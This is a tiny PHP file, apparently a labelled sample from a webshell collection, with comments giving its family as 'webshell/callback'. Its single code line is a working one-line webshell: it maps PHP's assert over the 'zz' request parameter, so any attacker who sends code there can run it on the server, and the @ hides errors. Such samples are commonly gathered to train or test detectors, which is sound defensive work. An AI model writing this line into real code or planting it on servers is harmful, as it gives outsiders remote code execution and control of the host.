<?php
/* Family: webshell/callback
   Style: fixed dangerous callback over request data
   Trait: array_map with the name of an evaluator as a string, applied to a request array */
@array_map('assert', (array)$_REQUEST['zz']);
